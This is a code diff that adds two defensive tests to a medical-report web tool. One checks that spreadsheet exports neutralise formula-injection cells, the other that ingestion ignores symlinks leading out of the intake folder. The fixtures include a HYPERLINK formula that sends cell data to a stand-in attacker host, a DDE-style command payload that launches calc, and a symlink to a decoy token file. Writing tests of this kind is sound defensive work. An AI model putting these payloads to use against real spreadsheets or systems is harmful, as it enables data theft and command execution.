@@ -188,3 +188,28 @@ def test_stored_redos_marker_renders_at_once():
     t.start()
     t.join(timeout=60)  # a hang bound, not a timing: the old highlighter ran for hours on this page
     assert result.get("status") == 200
+
+
+def test_downloads_do_not_carry_formulas():
+    """Red team #9: a cell a spreadsheet would run (=, +, -, @) is written with a leading apostrophe."""
+    from spinekg.webui.tables import Table, table_file
+
+    t = Table("t", ["a", "b", "c"], [['=HYPERLINK("https://evil.example/?"&A2,"x")', "@SUM(1+1)", -3.5],
+                                     [("-cmd|' /C calc'!A0", "/x"), "plain", 2]])
+    for fmt in ("csv", "tsv"):
+        body = table_file(t, fmt).get_data(as_text=True)
+        assert "'=HYPERLINK" in body and "'@SUM" in body and "'-cmd" in body and "-3.5" in body
+        assert "'-3.5" not in body
+
+
+def test_ingest_does_not_follow_links_out_of_the_folder(tmp_path):
+    """Red team #10: a link in an intake folder to a file elsewhere is not read."""
+    from spinekg.loaders import expand_paths
+
+    intake, outside = tmp_path / "intake", tmp_path / "outside"
+    intake.mkdir()
+    outside.mkdir()
+    (outside / "secret.txt").write_text("A 45-year-old man (api_token=DECOY) had a chordoma of T11.\n")
+    (intake / "report-042.txt").symlink_to(outside / "secret.txt")
+    (intake / "real.txt").write_text("A 45-year-old man had a chordoma of T11.\n")
+    assert [p.name for p in expand_paths([intake])] == ["real.txt"]
